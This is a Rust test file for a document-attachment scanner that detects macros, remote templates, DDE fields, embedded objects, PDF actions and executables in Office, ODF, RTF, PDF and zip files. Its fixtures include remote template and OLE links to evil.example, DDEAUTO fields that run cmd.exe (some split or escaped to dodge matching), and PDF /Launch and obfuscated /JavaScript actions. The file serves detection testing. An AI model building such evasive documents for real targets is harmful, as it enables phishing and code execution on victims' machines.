use std::io::{Cursor, Write};

use zip::write::SimpleFileOptions;

use super::Active::{Embedded, Launch, Macros, Program, Remote, Scripts, Unread};
use super::{Active, active, is_remote};
use crate::attachments::recognise::kind_of;

fn found(content: &[u8]) -> Option<Active> {
    let mut file = Cursor::new(content);
    let kind = kind_of(&mut file).unwrap();
    active(&mut file, &kind).unwrap()
}

fn package(parts: &[(&str, &[u8])]) -> Vec<u8> {
    let mut zip = zip::ZipWriter::new(Cursor::new(Vec::new()));
    for (name, content) in parts {
        zip.start_file(*name, SimpleFileOptions::default()).unwrap();
        zip.write_all(content).unwrap();
    }
    zip.finish().unwrap().into_inner()
}

const TYPES: (&str, &[u8]) = (
    "[Content_Types].xml",
    b"<Types><Default Extension='xml' ContentType='application/xml'/></Types>",
);
const BODY: (&str, &[u8]) = ("word/document.xml", b"<w:document><w:p/></w:document>");

/// A Word document with these parts beside the usual ones.
fn docx(parts: &[(&str, &[u8])]) -> Vec<u8> {
    package(&[&[TYPES, BODY], parts].concat())
}

fn odt(parts: &[(&str, &[u8])]) -> Vec<u8> {
    let mime: (&str, &[u8]) = ("mimetype", b"application/vnd.oasis.opendocument.text");
    package(&[&[mime], parts].concat())
}

fn relation(kind: &str, target: &str) -> Vec<u8> {
    format!(
        "<Relationships><Relationship Id='rId1' Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}' Target='{target}' TargetMode='External'/></Relationships>"
    )
    .into_bytes()
}

fn compound(streams: &[(&str, &[u8])]) -> Vec<u8> {
    let mut compound = cfb::CompoundFile::create(Cursor::new(Vec::new())).unwrap();
    for (path, content) in streams {
        if let Some((storage, _)) = path[1..].rsplit_once('/') {
            compound.create_storage_all(format!("/{storage}")).unwrap();
        }
        let mut stream = compound.create_stream(path).unwrap();
        stream.write_all(content).unwrap();
    }
    compound.into_inner().into_inner()
}

#[test]
fn documents_that_do_nothing_are_said_to_do_nothing() {
    let link = relation("hyperlink", "https://example.com");
    let template = relation("attachedTemplate", "file:///C:\\Vorlagen\\Brief.dotx");
    let words: &[(&str, &[u8])] = &[
        ("word/_rels/document.xml.rels", &link),
        ("word/_rels/settings.xml.rels", &template),
        (
            "word/footnotes.xml",
            b"<w:instrText> PAGE </w:instrText><w:t>DDEAUTO</w:t>",
        ),
        ("word/embeddings/Microsoft_Excel_Sheet.xlsx", b"PK"),
    ];
    let open: &[(&str, &[u8])] = &[
        (
            "content.xml",
            b"<text:a xlink:type='simple' xlink:href='https://example.com'>x</text:a>",
        ),
        ("Basic/script-lc.xml", b"<library/>"),
    ];
    let cases: &[(&str, Vec<u8>)] = &[
        ("docx", docx(words)),
        ("odt", odt(open)),
        ("doc", compound(&[("/WordDocument", b"words")])),
        ("zip", package(&[("readme.txt", b"words")])),
        (
            "pdf",
            b"%PDF-1.7\n1 0 obj<</Title(About /JavaScript and /Launch)/A<</S/URI/URI(https://a.example/JS)>>/OpenAction[2 0 R/Fit]>>endobj\n2 0 obj<</Length 9>>stream\n/JS /Launch\nendstream endobj".to_vec(),
        ),
        (
            "rtf",
            br"{\rtf1{\*\template C:\\Vorlagen\\B\'fcro.dot}{\field{\*\fldinst HYPERLINK 'https://a.example'}}}".to_vec(),
        ),
        ("txt", b"/JavaScript \\objdata DDEAUTO".to_vec()),
    ];
    for (name, content) in cases {
        assert_eq!(found(content), None, "{name}");
    }
}

#[test]
fn macros_are_found_whatever_they_are_called() {
    let types = b"<Types><Override PartName='/word/notes.dat' ContentType='application/vnd.ms-office.vbaProject'/></Types>";
    let sheet = [&[0x85, 0, 8, 0, 0, 0, 0, 0, 0, 1, 1, 0][..]].concat();
    let slides = [0x1F, 0x00, 0xFF, 0x03, 0x14, 0x00, 0x00, 0x00];
    let cases: &[(&str, Vec<u8>)] = &[
        ("docm", docx(&[("word/vbaProject.bin", b"")])),
        ("docx", package(&[("[Content_Types].xml", types), BODY, ("word/notes.dat", b"")])),
        ("activex", docx(&[("word/activeX/activeX1.xml", b"<ocx/>")])),
        (
            "xlsx",
            package(&[TYPES, ("xl/workbook.xml", b""), ("xl/macrosheets/sheet1.xml", b"")]),
        ),
        ("odt", odt(&[("Basic/Standard/Module1.xml", b"<module/>")])),
        ("odt script", odt(&[("Scripts/python/run.py", b"")])),
        (
            "odt event",
            odt(&[(
                "content.xml",
                b"<script:event-listener script:event-name='dom:load' xlink:href='vnd.sun.star.script:x'/>",
            )]),
        ),
        (
            "doc",
            compound(&[("/WordDocument", b""), ("/Macros/VBA/dir", b"")]),
        ),
        ("xls", compound(&[("/Workbook", &sheet)])),
        ("ppt", compound(&[("/PowerPoint Document", &slides)])),
    ];
    for (name, content) in cases {
        assert_eq!(found(content), Some(Macros), "{name}");
    }
}

#[test]
fn what_is_fetched_or_started_is_found() {
    let template = relation("attachedTemplate", "https://evil.example/t.dotm");
    let share = relation("attachedTemplate", "file://///evil.example/t.dotm");
    let object = relation("oleObject", "mhtml:http://evil.example!x-usc:1");
    let rels = "word/_rels/settings.xml.rels";
    let wide: Vec<u8> = [0xff_u8, 0xfe]
        .into_iter()
        .chain(
            String::from_utf8(template.clone())
                .unwrap()
                .encode_utf16()
                .flat_map(u16::to_le_bytes),
        )
        .collect();
    let cases: &[(&str, Vec<u8>, Active)] = &[
        ("template", docx(&[(rels, &template)]), Remote),
        ("template in UTF-16", docx(&[(rels, &wide)]), Remote),
        ("template on a share", docx(&[(rels, &share)]), Remote),
        ("object", docx(&[(rels, &object)]), Remote),
        (
            "odt picture",
            odt(&[(
                "content.xml",
                b"<draw:image xlink:href='http://a.example/p.png' xlink:show='embed' xlink:actuate='onLoad'/>",
            )]),
            Remote,
        ),
        (
            "rtf template",
            br"{\rtf1{\*\template http://evil.example/t.dotm}}".to_vec(),
            Remote,
        ),
        (
            "rtf template in codes",
            br"{\rtf1{\*\template \u104?\u116?\u116?\u112?}}".to_vec(),
            Remote,
        ),
        (
            "dde, split",
            docx(&[(
                "word/header1.xml",
                b"<w:p><w:instrText>DDE</w:instrText><w:instrText>AU&#84;O c:\\\\cmd.exe</w:instrText></w:p>",
            )]),
            Launch,
        ),
        (
            "dde, simple",
            docx(&[("word/footer1.xml", b"<w:fldSimple w:instr=' DDE cmd '/>")]),
            Launch,
        ),
        (
            "rtf dde",
            br"{\rtf1{\field{\*\fldinst {\b DDE}{AUTO cmd}}}}".to_vec(),
            Launch,
        ),
        (
            "ole object",
            docx(&[("word/embeddings/oleObject1.bin", b"")]),
            Embedded,
        ),
        (
            "old ole object",
            compound(&[
                ("/WordDocument", b""),
                ("/ObjectPool/_1/\u{1}Ole10Native", b""),
            ]),
            Embedded,
        ),
        ("rtf object", br"{\rtf1{\object\objemb{\*\objdata 0105}}}".to_vec(), Embedded),
        ("archive", package(&[("cv/setup.exe", b"MZ")]), Program),
    ];
    for (name, content, expected) in cases {
        assert_eq!(found(content), Some(*expected), "{name}");
    }
}

#[test]
fn what_is_too_much_to_be_looked_through_is_not_called_harmless() {
    let names: Vec<String> = (0..20_000).map(|turn| format!("word/{turn}")).collect();
    let mut parts = vec![TYPES, BODY];
    parts.extend(names.iter().map(|name| (name.as_str(), &b""[..])));
    assert_eq!(found(&package(&parts)), Some(Unread));
}

/// A PDF with an object stream that holds this.
fn pdf_with_objects(objects: &[u8]) -> Vec<u8> {
    let mut packed = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
    packed.write_all(objects).unwrap();
    let packed = packed.finish().unwrap();
    let start =
        b"%PDF-1.7\n%\xe2\xe3(\n1 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode>>stream\r\n";
    [start, &packed[..], b"\nendstream\nendobj\n"].concat()
}

#[test]
fn a_pdf_says_what_it_does_however_it_is_written() {
    let cases: &[(&[u8], Active)] = &[
        (b"<</S/JavaScript/JS(app.alert(1))>>", Scripts),
        (b"<</S /J#61vaScript /J#53 5 0 R>>", Scripts),
        (b"<</AA<</O<</S/Launch/F(cmd.exe)>>>>>>", Launch),
        (
            b"<</Names[(a.exe)<</EF<</F 7 0 R>>>>]/Type/EmbeddedFile>>",
            Embedded,
        ),
        (b"<</S/SubmitForm/F(http://a.example)>>", Remote),
    ];
    for (dictionary, expected) in cases {
        let plain = [b"%PDF-1.7\n1 0 obj", *dictionary, b"endobj"].concat();
        let shown = String::from_utf8_lossy(dictionary);
        assert_eq!(found(&plain), Some(*expected), "{shown}");
        let packed = pdf_with_objects(&[b"1 0 ", *dictionary].concat());
        assert_eq!(found(&packed), Some(*expected), "packed: {shown}");
    }
}

#[test]
fn only_what_is_elsewhere_is_remote() {
    for remote in [
        "https://a.example/t.dotm",
        " HTTP://a.example",
        "\\\\server\\share\\t.dotm",
        "//server/share",
        "file://server/t.dotm",
        "file:///\\\\server\\t.dotm",
        "file:////server/t.dotm",
        "mhtml:http://a.example!x",
    ] {
        assert!(is_remote(remote), "{remote}");
    }
    for here in [
        "media/image1.png",
        "../customXml/item1.xml",
        "C:\\Vorlagen\\Brief.dotx",
        "file:///C:/Vorlagen/Brief.dotx",
        "file:///C|/Vorlagen/Brief.dotx",
        "file:///home/ada/t.ott",
        "Normal.dotm",
        "NULL",
        "",
    ] {
        assert!(!is_remote(here), "{here}");
    }
}
